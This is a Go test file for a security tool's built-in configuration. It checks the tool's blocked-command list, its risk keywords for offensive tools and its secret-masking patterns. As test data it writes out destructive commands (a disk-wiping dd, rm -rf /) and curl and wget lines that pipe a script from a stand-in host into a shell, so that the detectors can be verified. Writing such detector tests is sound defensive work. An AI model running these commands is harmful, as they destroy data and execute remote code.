package config

import (
	"regexp"
	"slices"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestGetBuiltinConfig(t *testing.T) {
	// Test singleton pattern - should return same instance
	cfg1 := GetBuiltinConfig()
	cfg2 := GetBuiltinConfig()

	assert.Same(t, cfg1, cfg2, "GetBuiltinConfig should return same instance")
	assert.NotNil(t, cfg1, "Built-in config should not be nil")
}

func TestBuiltinConfigThreadSafety(t *testing.T) {
	const goroutines = 100

	var wg sync.WaitGroup
	configs := make([]*BuiltinConfig, goroutines)

	// Launch multiple goroutines to access config concurrently
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func(index int) {
			defer wg.Done()
			configs[index] = GetBuiltinConfig()
		}(i)
	}

	wg.Wait()

	// All goroutines should get the same instance
	for i := 1; i < goroutines; i++ {
		assert.Same(t, configs[0], configs[i], "All goroutines should get same instance")
	}
}

func TestBuiltinBlockedCommands(t *testing.T) {
	cfg := GetBuiltinConfig()

	// Destructive classics must always be present
	requiredEntries := []string{
		"rm -rf /",
		"mkfs",
		"shutdown",
		"reboot",
		"iptables -F",
	}

	for _, entry := range requiredEntries {
		assert.Contains(t, cfg.BlockedCommands, entry)
	}
	assert.GreaterOrEqual(t, len(cfg.BlockedCommands), 15, "Should have at least 15 blocked commands")
}

func TestBuiltinSuspiciousPatternsCompile(t *testing.T) {
	cfg := GetBuiltinConfig()

	require.NotEmpty(t, cfg.SuspiciousPatterns)
	for _, pattern := range cfg.SuspiciousPatterns {
		_, err := regexp.Compile(pattern)
		require.NoError(t, err, "Pattern %q should compile", pattern)
	}
}

func TestBuiltinSuspiciousPatternsMatch(t *testing.T) {
	cfg := GetBuiltinConfig()

	dangerous := []string{
		"dd if=/dev/urandom of=/dev/sda bs=1M",
		"rm -rf / --no-preserve-root",
		"curl http://evil.example/x.sh | sh",
		"wget http://evil.example/x.sh | bash",
	}

	for _, command := range dangerous {
		t.Run(command, func(t *testing.T) {
			matched := false
			for _, pattern := range cfg.SuspiciousPatterns {
				if regexp.MustCompile(pattern).MatchString(command) {
					matched = true
					break
				}
			}
			assert.True(t, matched, "Command %q should match a suspicious pattern", command)
		})
	}
}

func TestBuiltinRiskKeywords(t *testing.T) {
	cfg := GetBuiltinConfig()

	t.Run("high risk", func(t *testing.T) {
		assert.Contains(t, cfg.HighRiskKeywords, "sqlmap")
		assert.Contains(t, cfg.HighRiskKeywords, "hydra")
		assert.Contains(t, cfg.HighRiskKeywords, "msfconsole")
	})

	t.Run("medium risk", func(t *testing.T) {
		assert.Contains(t, cfg.MediumRiskKeywords, "nmap")
		assert.Contains(t, cfg.MediumRiskKeywords, "nuclei")
		assert.Contains(t, cfg.MediumRiskKeywords, "gobuster")
	})

	t.Run("low risk", func(t *testing.T) {
		assert.Contains(t, cfg.LowRiskKeywords, "whois")
		assert.Contains(t, cfg.LowRiskKeywords, "nslookup")
	})

	t.Run("no overlap between classes", func(t *testing.T) {
		seen := make(map[string]string)
		for _, kw := range cfg.HighRiskKeywords {
			seen[kw] = "high"
		}
		for _, kw := range cfg.MediumRiskKeywords {
			require.NotContains(t, seen, kw, "keyword %q in both high and medium", kw)
			seen[kw] = "medium"
		}
		for _, kw := range cfg.LowRiskKeywords {
			require.NotContains(t, seen, kw, "keyword %q appears in multiple classes", kw)
		}
	})
}

func TestBuiltinMaskingPatterns(t *testing.T) {
	cfg := GetBuiltinConfig()

	// Test that key patterns exist
	requiredPatterns := []string{
		"api_key",
		"password_assignment",
		"basic_auth_url",
		"certificate",
		"token",
		"ssh_key",
		"aws_access_key",
		"aws_secret_key",
	}

	for _, patternName := range requiredPatterns {
		t.Run(patternName, func(t *testing.T) {
			pattern, exists := cfg.MaskingPatterns[patternName]
			require.True(t, exists, "Pattern %s should exist", patternName)
			assert.NotEmpty(t, pattern.Pattern, "Pattern regex should not be empty")
			assert.NotEmpty(t, pattern.Replacement, "Pattern replacement should not be empty")
			assert.NotEmpty(t, pattern.Description, "Pattern description should not be empty")

			_, err := regexp.Compile(pattern.Pattern)
			require.NoError(t, err, "Pattern %s should compile", patternName)
		})
	}

	assert.GreaterOrEqual(t, len(cfg.MaskingPatterns), 12, "Should have at least 12 masking patterns")
}

func TestBuiltinPatternGroups(t *testing.T) {
	cfg := GetBuiltinConfig()

	tests := []struct {
		name      string
		groupName string
		minSize   int
	}{
		{
			name:      "basic group",
			groupName: "basic",
			minSize:   2,
		},
		{
			name:      "secrets group",
			groupName: "secrets",
			minSize:   3,
		},
		{
			name:      "web group",
			groupName: "web",
			minSize:   3,
		},
		{
			name:      "cloud group",
			groupName: "cloud",
			minSize:   3,
		},
		{
			name:      "all group",
			groupName: "all",
			minSize:   10,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			group, exists := cfg.PatternGroups[tt.groupName]
			require.True(t, exists, "Pattern group %s should exist", tt.groupName)
			assert.GreaterOrEqual(t, len(group), tt.minSize, "Group should have at least %d patterns", tt.minSize)

			// Verify all group members resolve to a regex pattern or a code masker
			for _, patternName := range group {
				_, existsInPatterns := cfg.MaskingPatterns[patternName]
				isCodeMasker := slices.Contains(cfg.CodeMaskers, patternName)
				assert.True(t, existsInPatterns || isCodeMasker,
					"Pattern %s in group %s should exist in MaskingPatterns or CodeMaskers",
					patternName, tt.groupName)
			}
		})
	}
}

func TestBuiltinConfigCompleteness(t *testing.T) {
	cfg := GetBuiltinConfig()

	t.Run("all required fields populated", func(t *testing.T) {
		assert.NotEmpty(t, cfg.BlockedCommands, "Blocked commands should be populated")
		assert.NotEmpty(t, cfg.SuspiciousPatterns, "Suspicious patterns should be populated")
		assert.NotEmpty(t, cfg.HighRiskKeywords, "High risk keywords should be populated")
		assert.NotEmpty(t, cfg.MediumRiskKeywords, "Medium risk keywords should be populated")
		assert.NotEmpty(t, cfg.LowRiskKeywords, "Low risk keywords should be populated")
		assert.NotEmpty(t, cfg.MaskingPatterns, "Masking patterns should be populated")
		assert.NotEmpty(t, cfg.PatternGroups, "Pattern groups should be populated")
		assert.Equal(t, "network", cfg.DefaultObjectiveType, "Default objective type should be network")
	})
}
